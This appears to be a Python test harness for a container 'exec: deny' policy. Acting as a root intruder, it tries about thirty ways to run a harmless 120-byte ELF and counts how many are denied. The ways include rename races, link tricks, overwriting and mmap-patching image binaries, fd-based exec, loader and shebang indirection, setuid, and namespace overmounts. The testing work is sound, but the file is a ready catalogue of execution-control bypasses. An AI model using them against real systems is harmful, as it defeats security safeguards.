"""An intruder with root in a container under `exec: deny`. Usage: attacks.py NAME TRIES; prints {"tries", "ran", "denied", "other"}.

Every attack tries to get one program to run: an ELF of 120 bytes that exits with 42, which no image holds.
"""
import ctypes, errno, json, mmap, os, platform, shutil, stat, struct, sys, threading, time

MARK = 42
libc = ctypes.CDLL(None, use_errno=True)
LOADER = '/lib64/ld-linux-x86-64.so.2' if platform.machine() == 'x86_64' else '/lib/ld-linux-aarch64.so.1'


def elf(size=0):
    """exit(42), as a static ELF, padded to `size` bytes."""
    if platform.machine() == 'x86_64':
        machine, code = 62, b'\x6a\x3c\x58\x6a\x2a\x5f\x0f\x05'
    else:
        machine, code = 183, struct.pack('<III', 0xD2800540, 0xD2800BA8, 0xD4000001)
    base = 0x400000
    head = b'\x7fELF\x02\x01\x01' + bytes(9) + struct.pack('<HHIQQQIHHHHHH', 2, machine, 1, base + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack('<IIQQQQQQ', 1, 5, 0, base, base, 120 + len(code), 120 + len(code), 0x1000)
    program = head + segment + code
    return program + bytes(max(0, size - len(program)))


result = {'tries': 0, 'ran': 0, 'denied': 0, 'other': 0}


def note(code):
    result['tries'] += 1
    result['ran' if code == MARK else 'denied' if code == -errno.EPERM else 'other'] += 1


def run(start):
    """The exit code of a child in which `start` calls execve, or minus its error number."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            start()
        except OSError as e:
            os.write(w, struct.pack('<i', e.errno))
        os._exit(0)
    os.close(w)
    failed = os.read(r, 4)
    os.close(r)
    _, status = os.waitpid(pid, 0)
    if failed:
        return -struct.unpack('<i', failed)[0]
    return os.waitstatus_to_exitcode(status)


def execute(path):
    return run(lambda: os.execv(path, [path]))


def drop(path, content=None):
    with open(path, 'wb') as f:
        f.write(elf() if content is None else content)
    os.chmod(path, 0o755)
    return path


def loop(tries, once):
    for i in range(tries):
        note(once(i))


def background(act):
    """Runs `act` over and over in another process, until the attack ends."""
    pid = os.fork()
    if pid == 0:
        while True:
            act()
    return pid


def renameat2(a, b, flags):
    return libc.syscall(316 if platform.machine() == 'x86_64' else 276, -100, a.encode(), -100, b.encode(), flags)


def own(name):
    """A program of the image for this attack alone: each is spoiled by its attack."""
    return '/opt/programs/' + name


# --- the attacks; the name on the command line is the function ---

def repeat(tries):
    path = drop('/tmp/repeat')
    loop(tries, lambda i: execute(path))


def fresh_name(tries):
    def once(i):
        path = drop(f'/tmp/fresh{i}')
        code = execute(path)
        os.unlink(path)
        return code
    loop(tries, once)


def rename_race(tries):
    drop('/tmp/race-a')
    victim = own('rename_race')
    def swap():
        try:
            os.rename('/tmp/race-a', victim)
            os.rename(victim, '/tmp/race-a')
        except OSError:
            pass
    pid = background(swap)
    loop(tries, lambda i: execute(victim if i % 2 else '/tmp/race-a'))
    os.kill(pid, 9)


def exchange_race(tries):
    victim = own('exchange_race')
    drop('/tmp/exchange', elf(os.stat(victim).st_size))
    pid = background(lambda: renameat2('/tmp/exchange', victim, 2))
    loop(tries, lambda i: execute(victim if i % 2 else '/tmp/exchange'))
    os.kill(pid, 9)


def hard_link(tries):
    drop('/tmp/linked')
    os.link('/tmp/linked', '/tmp/link')
    loop(tries, lambda i: execute('/tmp/link'))


def symbolic_link(tries):
    drop('/tmp/linked2')
    victim = own('symbolic_link')
    os.unlink(victim)
    os.symlink('/tmp/linked2', victim)
    loop(tries, lambda i: execute(victim))


def overwrite_in_place(tries):
    victim = own('overwrite_in_place')
    assert execute(victim) == 0
    with open(victim, 'r+b') as f:
        f.write(elf(os.stat(victim).st_size))
    loop(tries, lambda i: execute(victim))


def overwrite_by_rename(tries):
    victim = own('overwrite_by_rename')
    assert execute(victim) == 0
    drop('/tmp/over')
    os.rename('/tmp/over', victim)
    loop(tries, lambda i: execute(victim))


def writable(path):
    """Opens a program for writing; for a moment after its process ended the kernel may still take it for running."""
    while True:
        try:
            return open(path, 'r+b', buffering=0)
        except OSError as e:
            if e.errno != errno.ETXTBSY:
                raise


def overwrite_again_and_again(tries):
    """Original and intruder's content by turns, so that each time the original has just been verified."""
    victim = own('overwrite_again')
    with open(victim, 'rb') as f:
        original = f.read()
    evil = elf(len(original))
    def once(i):
        with writable(victim) as f:
            os.pwrite(f.fileno(), original, 0)
        execute(victim)
        with writable(victim) as f:
            os.pwrite(f.fileno(), evil, 0)
        return execute(victim)
    loop(tries, once)


def overwrite_through_mmap(tries):
    """The same through a shared mapping, which the kernel tells nobody of."""
    victim = own('overwrite_mmap')
    with open(victim, 'rb') as f:
        original = f.read()
    evil = elf(len(original))
    def write(content):
        fd = os.open(victim, os.O_RDWR)
        with mmap.mmap(fd, len(content)) as m:
            m[:] = content
        os.close(fd)
    def once(i):
        write(original)
        execute(victim)
        write(evil)
        return execute(victim)
    loop(tries, once)


def keep_mapped(tries):
    """Maps it writable, closes the descriptor (that is when a close-after-write comes), has it verified, then writes."""
    victim = own('keep_mapped')
    with open(victim, 'rb') as f:
        original = f.read()
    evil = elf(len(original))
    def once(i):
        fd = os.open(victim, os.O_RDWR)
        m = mmap.mmap(fd, len(original))
        os.close(fd)
        m[:] = original
        execute(victim)
        m[:] = evil
        code = execute(victim)
        m.close()
        return code if code == MARK else execute(victim)
    loop(tries, once)


def write_while_judged(tries):
    """Writes in one process as fast as it can, executes in another: the write must never fall between look and start."""
    victim = own('write_while_judged')
    with open(victim, 'rb') as f:
        original = f.read()
    evil = elf(len(original))
    def act():
        for content in (original, evil):
            try:
                fd = os.open(victim, os.O_WRONLY)
                os.pwrite(fd, content, 0)
                os.close(fd)
            except OSError:
                pass
    pid = background(act)
    os.nice(19)
    loop(tries, lambda i: execute(victim))
    os.kill(pid, 9)


def proc_self_fd(tries):
    fd = os.open(drop('/tmp/by-fd'), os.O_RDONLY)
    loop(tries, lambda i: execute(f'/proc/self/fd/{fd}'))


def deleted_file(tries):
    fd = os.open(drop('/tmp/deleted'), os.O_RDONLY)
    os.unlink('/tmp/deleted')
    loop(tries, lambda i: execute(f'/proc/self/fd/{fd}'))


def execveat_fd(tries):
    fd = os.open(drop('/tmp/at'), os.O_RDONLY)
    loop(tries, lambda i: run(lambda: os.execve(fd, ['x'], {})))


def shebang(tries):
    drop('/tmp/interpreter')
    path = drop('/tmp/script', b'#!/tmp/interpreter\n')
    loop(tries, lambda i: execute(path))


def through_loader(tries):
    shutil.copy('/bin/false', '/tmp/dynamic')
    def once(i):
        code = run(lambda: os.execv(LOADER, [LOADER, '/tmp/dynamic']))
        return MARK if code == 1 else code
    loop(tries, once)


def through_loader_script(tries):
    """The loader as the interpreter of a script that the image holds: its own start is not another program's."""
    shutil.copy('/bin/false', '/tmp/dynamic2')
    drop('/tmp/by-loader', f'#!{LOADER}\n'.encode())
    def once(i):
        code = execute('/tmp/by-loader')
        return MARK if code >= 0 else code
    loop(tries, once)


def through_loader_thread(tries):
    """One thread starts honest programs all the time while another starts the loader."""
    shutil.copy('/bin/false', '/tmp/dynamic3')
    pid = background(lambda: execute('/bin/true'))
    def once(i):
        def start():
            thread = threading.Thread(target=lambda: os.execv(LOADER, [LOADER, '/tmp/dynamic3']))
            thread.start()
            thread.join()
            os._exit(0)
        return MARK if run(start) == 1 else -errno.EPERM
    loop(tries, once)
    os.kill(pid, 9)


def setuid(tries):
    path = drop('/tmp/setuid')
    os.chmod(path, 0o4755)
    def start():
        os.setuid(1000)
        os.execv(path, [path])
    loop(tries, lambda i: run(start))


def setuid_of_image(tries):
    """The image's own program with a setuid bit is another program."""
    victim = own('setuid_of_image')
    os.chmod(victim, 0o4755)
    loop(tries, lambda i: MARK if execute(victim) >= 0 else -errno.EPERM)


def elsewhere(tries):
    for i in range(tries):
        for folder in ('/scratch', '/volume', '/dev/shm', '/dev'):
            note(execute(drop(f'{folder}/dropped')))


def engine_file(tries):
    """Files that the engine mounts over the image's, each writable by root in the container."""
    with open('/etc/hosts', 'r+b') as f:
        f.write(elf(4096))
    os.chmod('/etc/hosts', 0o755)
    loop(tries, lambda i: execute('/etc/hosts'))


def own_mount(tries):
    """In a user and mount namespace of its own, its own folder over /usr/bin; where that is forbidden, so much the better."""
    os.makedirs('/tmp/mounted', exist_ok=True)
    drop('/tmp/mounted/false')
    def start():
        if libc.unshare(0x10000000 | 0x20000) != 0:
            os._exit(7)
        if libc.mount(b'/tmp/mounted', b'/usr/bin', None, 4096, None) != 0:
            os._exit(8)
        os.execv('/usr/bin/false', ['/usr/bin/false'])
    loop(tries, lambda i: run(start))


def under_load(tries):
    """While other programs start, some 200 a second."""
    pid = background(lambda: (execute('/bin/true'), time.sleep(0.004)))
    path = drop('/tmp/loaded')
    loop(tries, lambda i: execute(path))
    os.kill(pid, 9)


def many_threads(tries):
    path = drop('/tmp/threads')
    counts = []
    def work():
        for _ in range(tries // 4):
            counts.append(execute(path))
    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for code in counts:
        note(code)


globals()[sys.argv[1]](int(sys.argv[2]))
print(json.dumps(result))
